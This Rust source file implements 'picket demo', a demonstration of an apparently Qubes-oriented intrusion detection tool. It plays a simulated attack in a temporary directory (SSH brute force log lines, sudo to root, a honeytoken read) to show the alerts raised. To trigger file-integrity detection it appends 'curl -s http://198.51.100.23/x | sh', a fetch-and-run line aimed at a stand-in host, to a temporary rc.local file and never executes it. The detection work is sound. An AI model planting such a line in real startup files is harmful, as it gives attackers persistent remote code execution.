//! `picket demo`: a bundled scenario sent through the real pipeline, agent → transport →
//! manager → host engine → store, and the alerts it raised shown as `picket alerts` shows
//! them.
//!
//! Everything happens in a new temporary directory: a manager serves the qrexec socket
//! service's protocol on a Unix socket there and stores into its own `picket.db`; an agent
//! (the same code as `picket agent`, on threads of this process) tails a log file, watches a
//! small tree laid out like a qube's `/rw` with file integrity (inotify), guards a honeytoken
//! (fanotify when permitted, else inotify, and the demo says which), and sends a heartbeat
//! every second. The demo then plays the story: it appends the scenario's log lines (an SSH
//! brute force, a login, sudo to a root shell, Qubes policy denials...), changes
//! `/rw/config/rc.local`, has another process (`cat`) read the honeytoken, and finally stops
//! the agent so that the manager reports it silent after two seconds. No root, no network and
//! no installed files are needed.

use super::agent::{self, Target};
use super::alerts::Printer;
use super::manager::{self, Manager};
use anyhow::{bail, Context, Result};
use picket_hostsrc::config::AgentConfig;
use picket_store::{AlertQuery, Store, StoredEvent};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

#[derive(Debug, clap::Args)]
pub struct Args {
    /// Print each alert as an EVE JSON line, exactly as stored, instead of the table (the
    /// narration goes to stderr).
    #[arg(long)]
    pub eve: bool,
    /// Keep the demo's data directory (database, agent state, tree) instead of removing it.
    #[arg(long)]
    pub keep: bool,
}

/// The source name the demo agent's socket header gives, as dom0 would name the qube.
const SOURCE: &str = "sys-net";
/// The manager reports a source silent after this long.
const SILENT_AFTER: Duration = Duration::from_secs(2);
/// Rules the story must raise before the agent is stopped: the SSH brute force, sudo to a
/// root shell, the rc.local change (from the real FIM event), the honeytoken read.
const EXPECTED: [(u64, &str); 4] = [
    (100111, "SSH brute force"),
    (100202, "sudo to a root shell"),
    (101501, "change to /rw/config/rc.local (file integrity)"),
    (picket_manager::RULE_HONEYTOKEN, "honeytoken read"),
];
/// The manager's rule for a silent source.
const RULE_SILENT: u64 = 990_004;

/// The scenario's log lines, embedded at build time.
fn scenario() -> &'static str {
    crate::ruleset::DEFAULT_RULESET
        .iter()
        .find(|f| f.path == "samples/demo-scenario.log")
        .map_or("", |f| f.contents)
}

/// Removes the demo directory when the demo ends, however it ends (unless kept).
struct TempDir {
    path: PathBuf,
    keep: bool,
}

impl Drop for TempDir {
    fn drop(&mut self) {
        if !self.keep {
            let _ = std::fs::remove_dir_all(&self.path);
        }
    }
}

fn agent_config(dir: &Path) -> Result<AgentConfig> {
    let text = format!(
        "state_dir = {state:?}\n\
         [heartbeat]\ninterval_secs = 1\n\
         [[logfile]]\npath = {log:?}\nfrom_start = true\n\
         [fim]\npaths = [\"/rw\"]\nroot = {root:?}\nrealtime = true\n\
         full_check_interval = 0\ndebounce_ms = 100\npackage_managers = []\n\
         [honeytokens]\npaths = [{token:?}]\n",
        state = dir.join("agent").to_string_lossy(),
        log = dir.join("logs/auth.log").to_string_lossy(),
        root = dir.join("qube").to_string_lossy(),
        token = dir.join("qube/home/user/passwords.kdbx").to_string_lossy(),
    );
    AgentConfig::parse(&text, Path::new("<demo agent config>"))
        .context("the demo's agent configuration")
}

/// Say something about the demo's progress: stdout for the table, stderr beside EVE lines.
macro_rules! say {
    ($eve:expr, $($arg:tt)*) => {
        if $eve { eprintln!($($arg)*) } else { println!($($arg)*) }
    };
}

pub fn run(args: Args) -> Result<i32> {
    let started = Instant::now();
    let eve = args.eve;
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.subsec_nanos());
    let dir = TempDir {
        path: std::env::temp_dir().join(format!("picket-demo-{}-{nanos}", std::process::id())),
        keep: args.keep,
    };
    let root = dir.path.join("qube");
    for sub in ["logs", "agent", "data", "qube/rw/config", "qube/home/user"] {
        std::fs::create_dir_all(dir.path.join(sub))
            .with_context(|| format!("creating {}", dir.path.join(sub).display()))?;
    }
    let rc_local = root.join("rw/config/rc.local");
    std::fs::write(
        &rc_local,
        "#!/bin/sh\n# runs as root at every start of this qube\n",
    )?;
    std::fs::write(root.join("rw/config/qubes-bind-dirs.d.conf"), "binds+=()\n")?;
    let token = root.join("home/user/passwords.kdbx");
    std::fs::write(&token, "a file nobody has a reason to open\n")?;
    let log = dir.path.join("logs/auth.log");
    std::fs::write(&log, "")?;
    let config = agent_config(&dir.path)?;

    say!(eve, "picket demo: a scenario through the real pipeline, agent -> transport -> manager -> rules -> store");
    say!(eve, "  in {}", dir.path.display());
    let manager = Manager::open(&dir.path.join("data"))?;
    let socket = dir.path.join("picket.sock");
    let _listener = manager::spawn_unix(&manager, &socket)?;
    let stop = Arc::new(AtomicBool::new(false));
    let agent_stop = stop.clone();
    let target = Target::Unix {
        path: socket.clone(),
        source: SOURCE.into(),
    };
    let agent = std::thread::Builder::new()
        .name("agent".into())
        .spawn(move || agent::run_with(config, None, Some(target), agent_stop))
        .context("starting the agent")?;
    let reader = Reader::open(&manager.db)?;
    let stop_agent = || stop.store(true, Ordering::SeqCst);

    // The FIM baseline is the agent's first record: once stored, the agent is connected and
    // its watches are in place.
    let ready = wait_until(Duration::from_secs(5), || {
        Ok(reader.store()?.count_type("fim")? > 0 && reader.store()?.count_type("heartbeat")? > 0)
    });
    if !matches!(ready, Ok(true)) {
        stop_agent();
        let _ = agent.join();
        bail!("the demo agent did not reach the manager within 5 s");
    }
    say!(
        eve,
        "  agent {SOURCE} connected; file integrity watches {}/rw, honeytoken {}",
        root.display(),
        token.display()
    );

    // The story.
    let lines = scenario().lines().filter(|l| !l.trim().is_empty()).count();
    std::fs::OpenOptions::new()
        .append(true)
        .open(&log)
        .and_then(|mut f| std::io::Write::write_all(&mut f, scenario().as_bytes()))
        .with_context(|| format!("writing {}", log.display()))?;
    say!(
        eve,
        "  1. appended {lines} log lines to the tailed log (SSH brute force, sudo to root, ...)"
    );
    std::fs::OpenOptions::new()
        .append(true)
        .open(&rc_local)
        .and_then(|mut f| {
            std::io::Write::write_all(&mut f, b"curl -s http://198.51.100.23/x | sh\n")
        })
        .with_context(|| format!("changing {}", rc_local.display()))?;
    say!(eve, "  2. appended a line to /rw/config/rc.local");
    let mut readers = Vec::new();
    let reader_note = read_token(&token, &mut readers);
    say!(eve, "  3. {reader_note}");

    let mut honeytoken_retries = 0;
    let mut last_read = Instant::now();
    let arrived = wait_until(Duration::from_secs(8), || {
        let rules = reader.rules()?;
        let have = |id: u64| rules.contains(&id);
        if !have(picket_manager::RULE_HONEYTOKEN)
            && last_read.elapsed() > Duration::from_millis(1500)
            && honeytoken_retries < 3
        {
            // The open may have come before the watch was in place: read it again.
            honeytoken_retries += 1;
            last_read = Instant::now();
            let _ = read_token(&token, &mut readers);
        }
        Ok(EXPECTED.iter().all(|(id, _)| have(*id)))
    })?;

    for mut child in readers {
        drop(child.stdin.take());
        let _ = child.wait();
    }

    // Silence: stop the agent and let the manager notice.
    stop_agent();
    let agent_result = agent
        .join()
        .map_err(|_| anyhow::anyhow!("the agent thread panicked"))?;
    say!(
        eve,
        "  4. stopped the agent; the manager reports a source silent for {} s",
        SILENT_AFTER.as_secs()
    );
    let silent = wait_until(SILENT_AFTER + Duration::from_secs(3), || {
        manager.check_silent(SILENT_AFTER)?;
        Ok(reader.rules()?.contains(&RULE_SILENT))
    })?;

    let rows = reader.alerts()?;
    let printer = Printer::auto(eve);
    if !eve {
        println!();
    }
    let mut out = std::io::stdout().lock();
    for row in &rows {
        printer.print(&mut out, row)?;
    }
    drop(out);
    let rules = reader.rules()?;
    let mut missing: Vec<&str> = EXPECTED
        .iter()
        .filter(|(id, _)| !rules.contains(id))
        .map(|(_, what)| *what)
        .collect();
    if !silent {
        missing.push("agent silent");
    }
    say!(eve, "");
    say!(
        eve,
        "{} alerts from {lines} log lines, 1 file change, 1 honeytoken read and 1 silent agent, \
         in {:.1} s.",
        rows.len(),
        started.elapsed().as_secs_f64()
    );
    if args.keep {
        say!(eve, "Kept: picket alerts --db {}", manager.db.display());
    } else {
        say!(
            eve,
            "Run your own: picket up, then picket alerts --follow (see the README)."
        );
    }
    if let Err(e) = agent_result {
        eprintln!("picket demo: the agent stopped with an error: {e:#}");
    }
    if !arrived || !missing.is_empty() {
        eprintln!(
            "picket demo: expected alerts missing: {}",
            missing.join(", ")
        );
        return Ok(1);
    }
    Ok(0)
}

/// Has another process read the honeytoken, so that fanotify can name it (the agent ignores
/// its own process's opens): `cat TOKEN -` reads the token, then waits on its stdin, so it
/// is still there when the agent looks up its executable; dropping the child's stdin ends
/// it. Falls back to reading the token here when `cat` cannot run.
fn read_token(token: &Path, readers: &mut Vec<std::process::Child>) -> String {
    let by_cat = std::process::Command::new("cat")
        .arg(token)
        .arg("-")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
    match by_cat {
        Ok(child) => {
            readers.push(child);
            "another process (cat) read the honeytoken".to_string()
        }
        Err(_) => {
            let _ = std::fs::read(token);
            "read the honeytoken here (cat did not run; fanotify ignores the agent's own \
             process, so only inotify sees this)"
                .to_string()
        }
    }
}

/// Polls `done` every 100 ms until it says yes or `limit` passes.
fn wait_until(limit: Duration, mut done: impl FnMut() -> Result<bool>) -> Result<bool> {
    let deadline = Instant::now() + limit;
    loop {
        if done()? {
            return Ok(true);
        }
        if Instant::now() >= deadline {
            return Ok(false);
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A read-only view of the manager's database (its own connection, as `picket alerts`).
struct Reader {
    store: Store,
}

impl Reader {
    fn open(db: &Path) -> Result<Reader> {
        Ok(Reader {
            store: Store::open_read_only(db)
                .with_context(|| format!("opening {}", db.display()))?,
        })
    }

    fn store(&self) -> Result<&Store> {
        Ok(&self.store)
    }

    /// Every stored alert, oldest first.
    fn alerts(&self) -> Result<Vec<StoredEvent>> {
        let mut rows = self.store.alerts(&AlertQuery {
            limit: Some(10_000),
            ..AlertQuery::default()
        })?;
        rows.reverse();
        Ok(rows)
    }

    /// The rule ids of the stored alerts.
    fn rules(&self) -> Result<Vec<u64>> {
        Ok(self
            .alerts()?
            .iter()
            .filter_map(|r| {
                let eve: serde_json::Value = serde_json::from_str(&r.eve).ok()?;
                eve["alert"]["signature_id"].as_u64()
            })
            .collect())
    }
}
